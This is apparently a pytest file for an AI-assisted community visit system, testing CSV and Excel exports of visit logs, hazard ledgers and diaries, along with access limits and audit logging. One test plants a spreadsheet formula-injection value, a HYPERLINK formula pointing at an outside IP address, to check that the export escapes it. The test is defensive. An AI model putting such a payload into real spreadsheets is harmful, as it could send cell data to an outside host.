"""The forms, made from what workers told: what stands in them, what stays inside, and the line on the log."""

import csv
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from assistant.domain.access import Role
from assistant.domain.errors import NotAllowed, NotUnderstood
from assistant.domain.rights import Viewer
from assistant.exchange.asking import Asked, FileKind, OutForm, Purpose
from assistant.exchange.taking_out import TakenOut, take_out
from assistant.storage.columns import new
from assistant.storage.tables import Action, Export, Household, Resident, Visit, Worker
from assistant.storage.viewing import viewer_of
from knowledge.forms import load_forms
from tests.turn.rehearsal import REPLIES, START, ZONE, Rehearsal

FORMS = load_forms()
A_WEEK = {"since": date(2026, 3, 2), "until": date(2026, 3, 31), "purpose": Purpose.MONTHLY}


def asked(form: OutForm, kind: FileKind = FileKind.CSV, **more: Any) -> Asked:
    return Asked(form, kind, **(A_WEEK | more))


def viewer(rehearsal: Rehearsal, name: str = "王主任") -> Viewer:
    with rehearsal.database.reading() as session:
        worker = session.exec(select(Worker).where(Worker.name == name)).one()
        found = viewer_of(session, worker.id or 0)
    assert found is not None
    return found


def take(rehearsal: Rehearsal, folder: Path, what: Asked, who: str = "王主任") -> TakenOut:
    now = rehearsal.clock.now().astimezone(ZONE)
    return take_out(rehearsal.database, viewer(rehearsal, who), what, REPLIES, FORMS, now, folder)


def rows(rehearsal: Rehearsal, folder: Path, form: OutForm, **more: Any) -> list[dict[str, str]]:
    taken = take(rehearsal, folder, asked(form, **more))
    with taken.path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_the_visit_log_has_a_row_for_each_visit_in_the_workers_words(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")
    rehearsal.worker_says("3-2-502 missed")

    first, second = rows(rehearsal, folder, OutForm.VISITS)

    assert (first["日期"], first["时间"], first["网格员"], first["网格"]) == (
        "2026-03-05",
        "10:00",
        "刘大姐",
        "一号微网格",
    )
    assert (first["具体门牌"], first["户主(称呼)"], first["走访结果"]) == ("3-2-501", "张大爷", "见到")
    assert (first["消防隐患"], first["治安隐患"], first["上报有关单位件数"]) == ("1", "0", "1")
    assert "gas.hose" in first["消防隐患说明"]
    assert first["巡查走访情况"] == "3-2-501 met gas.hose"
    assert second["走访结果"] == "到访不遇"


def test_the_daily_log_counts_doors_and_says_that_a_machine_made_it(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met")
    rehearsal.wait(hours=2)
    rehearsal.worker_says("3-2-502 met fire.clutter")
    rehearsal.worker_says("3-2-502 met fire.clutter:resolved")

    (day,) = rows(rehearsal, folder, OutForm.DAILY)

    assert (day["开始"], day["结束"], day["走访户数"], day["消防隐患"]) == ("10:00", "12:00", "2", "1")
    assert day["生成方式"] == "AI整理，请核对"


def test_the_hazard_ledger_tells_what_became_of_each_hazard(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")
    rehearsal.worker_says("3-2-502 met fire.clutter")
    rehearsal.wait(days=2)
    rehearsal.worker_says("close 3-2-502 fire.clutter")

    hose, clutter = rows(rehearsal, folder, OutForm.HAZARDS)

    assert (hose["小区"], hose["楼栋"], hose["单元"], hose["房号"]) == ("怡丽佳苑", "3", "2", "501")
    assert (hose["隐患类别"], hose["级别"], hose["微光级别"], hose["整改结果"]) == (
        "燃气",
        "一般",
        "P2限期",
        "存在隐患",
    )
    assert (hose["整改期限"], hose["复查日期"], hose["描述"]) == ("2026-03-12", "", "gas.hose")
    assert "燃气公司" in hose["责任单位"]
    assert hose["规则版本"].endswith("@rules-1")
    assert (clutter["整改结果"], clutter["复查日期"], clutter["复查人"]) == ("已整改", "2026-03-07", "刘大姐")


def test_checks_are_told_in_the_codes_of_the_inspection_system(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")
    rehearsal.worker_says("3-2-502 met gas.leak:negated")
    rehearsal.worker_says("3-2-601 met fire.clutter:resolved")
    rehearsal.worker_says("3-2-601 met fire.clutter:planned")

    found = rows(rehearsal, folder, OutForm.INSPECTIONS)

    assert [(row["地址"], row["巡查项目"], row["结果"], row["级别"]) for row in found] == [
        ("3-2-501", "燃气", "存在隐患", "一般"),
        ("3-2-502", "燃气", "合格", ""),
        ("3-2-601", "消防", "已整改", ""),
    ]


def test_what_was_done_on_the_spot_stands_in_the_worker_s_words_with_the_door_that_it_was_done_at(
    rehearsal: Rehearsal, folder: Path
) -> None:
    rehearsal.worker_says(
        "3-2-501 met gas.hose ，当场关了阀门，还没换，叫了燃气公司; 3-2-502 met fire.clutter ，劝他搬走"
    )

    ledger = {row["房号"]: row["现场措施"] for row in rows(rehearsal, folder, OutForm.HAZARDS)}
    diary = {row["走访地点"][-3:]: row["现场措施"] for row in rows(rehearsal, folder, OutForm.DIARY)}

    assert ledger == {"501": "当场关了阀门；叫了燃气公司", "502": "劝他搬走"}
    assert diary == ledger


def test_the_diary_tells_of_the_family_what_is_on_record_and_leaves_the_thoughts_to_people(
    rehearsal: Rehearsal, folder: Path
) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")
    rehearsal.worker_says("3-2-502 missed")

    (entry,) = rows(rehearsal, folder, OutForm.DIARY)

    assert entry["走访对象(年龄)"] == "张大爷(82岁)"
    assert entry["家庭情况"] == "在册1人；张大爷(82岁)独居"
    assert "燃气公司" in entry["下一步"]
    assert entry["心得体会(自己写)"] == ""
    assert entry["生成方式"] == "AI整理，请核对"


def test_restricted_matters_stay_inside_unless_they_are_asked_for(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met health.unwell")

    (kept_in,) = rows(rehearsal, folder, OutForm.DIARY)
    (let_out,) = rows(rehearsal, folder, OutForm.DIARY, with_restricted=True)

    assert (kept_in["走访记录"], kept_in["困难"], kept_in["下一步"]) == ("（限制查看，见系统）", "", "")
    assert let_out["走访记录"] == "3-2-501 met health.unwell"
    assert "health.unwell" in let_out["困难"]


def test_the_codes_are_a_form_without_any_household(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")

    found = {row["微光代码"]: row for row in rows(rehearsal, folder, OutForm.CODES)}

    assert found["gas.hose"]["巡查项目"] == "燃气"
    assert found["request.benefit"]["事件性质"] == "咨询"
    assert found["P0"]["巡查项目"] == "重大"
    assert not any("3-2-501" in value for row in found.values() for value in row.values())


def test_another_area_stays_out_of_every_form(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")
    with rehearsal.database.writing() as session:
        other = session.exec(select(Worker).where(Worker.name == "李大姐")).one()
        other.role = Role.COORDINATOR

    counts = {
        form: take(rehearsal, folder, asked(form), "李大姐").rows for form in OutForm if form is not OutForm.CODES
    }

    assert set(counts.values()) == {0}


@pytest.mark.parametrize("who", ["刘大姐", "燃气抢修"])
def test_nobody_else_takes_anything_out(rehearsal: Rehearsal, folder: Path, who: str) -> None:
    with pytest.raises(NotAllowed):
        take(rehearsal, folder, asked(OutForm.VISITS), who)

    assert list(folder.iterdir()) == []
    assert rehearsal.rows(Export) == []


def test_each_file_is_on_the_log_with_its_purpose(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")

    taken = take(
        rehearsal, folder, asked(OutForm.HAZARDS, purpose=Purpose.OTHER, note="街道安全例会", with_restricted=True)
    )

    (kept,) = rehearsal.rows(Export)
    with rehearsal.database.reading() as session:
        line = session.exec(select(Action).where(Action.subject == "exports")).one()
    assert (kept.id, kept.purpose_note, kept.rows, kept.with_restricted) == (taken.export_id, "街道安全例会", 1, True)  # type: ignore[attr-defined]
    assert line.verb == "took_out"
    assert line.after is not None
    assert (line.after["form"], line.after["purpose"], line.after["rows"]) == ("hazards", "other", 1)
    assert "街道安全例会" not in str(line.after)


def test_a_workbook_says_where_it_comes_from(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")

    book = load_workbook(take(rehearsal, folder, asked(OutForm.DIARY, FileKind.EXCEL)).path)

    about = {name.value: said.value for name, said in book["说明"].iter_rows()}
    assert book.sheetnames == ["民情日记(AI整理)", "说明"]
    assert (about["来自"], about["导出人"], about["用途"]) == ("微光，第一网格", "王主任", "本网格月度汇总")
    assert about["期间"] == "2026-03-02 到 2026-03-31"
    assert about["AI标识"].startswith("AI整理，请核对")
    assert book.properties.keywords == "AI整理"


def test_a_name_that_looks_like_a_formula_is_only_text_in_the_file(rehearsal: Rehearsal, folder: Path) -> None:
    evil = '=HYPERLINK("http://203.0.113.9/"&A1)'
    with rehearsal.database.writing() as session:
        door = session.exec(select(Household).where(Household.key == "3-2-502")).one()
        session.add(new(Resident, area_id=door.area_id, household_id=door.id, called=evil))
    rehearsal.worker_says("3-2-502 met gas.hose")

    (row,) = rows(rehearsal, folder, OutForm.VISITS)
    sheet = load_workbook(take(rehearsal, folder, asked(OutForm.VISITS, FileKind.EXCEL)).path)["走访日志"]

    assert row["户主(称呼)"] == f"'{evil}"
    cell = sheet["H2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)


def test_only_the_days_that_were_asked_for_are_in_it(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met")
    rehearsal.wait(days=1)
    rehearsal.worker_says("3-2-502 met")

    of_that_day = rows(rehearsal, folder, OutForm.VISITS, since=START.date(), until=START.date())

    assert [row["具体门牌"] for row in of_that_day] == ["3-2-501"]


def test_more_visits_than_are_read_at_once_are_all_there_once(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met")
    with rehearsal.database.writing() as session:
        visit = session.exec(select(Visit)).one()
        copy = visit.model_dump(exclude={"id"})
        session.add_all([new(Visit, **copy) for _ in range(900)])

    found = rows(rehearsal, folder, OutForm.VISITS)

    assert [row["序号"] for row in found] == [str(number) for number in range(1, 902)]


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"until": date(2026, 3, 1)}, "结束的日子在开始的前面"),
        ({"since": date(2025, 1, 1)}, "一次最多导出 366 天"),
        ({"purpose": Purpose.OTHER, "note": "  "}, "没写做什么用"),
    ],
    ids=["the end before the beginning", "years", "no purpose"],
)
def test_what_does_not_fit_is_told_in_words(changed: dict[str, Any], said: str) -> None:
    with pytest.raises(NotUnderstood, match=said):
        asked(OutForm.VISITS, **changed)


def test_withdrawn_visits_are_none(rehearsal: Rehearsal, folder: Path) -> None:
    rehearsal.worker_says("3-2-501 met gas.hose")
    rehearsal.worker_says("withdraw")

    assert rows(rehearsal, folder, OutForm.VISITS) == []
    assert rows(rehearsal, folder, OutForm.HAZARDS) == []
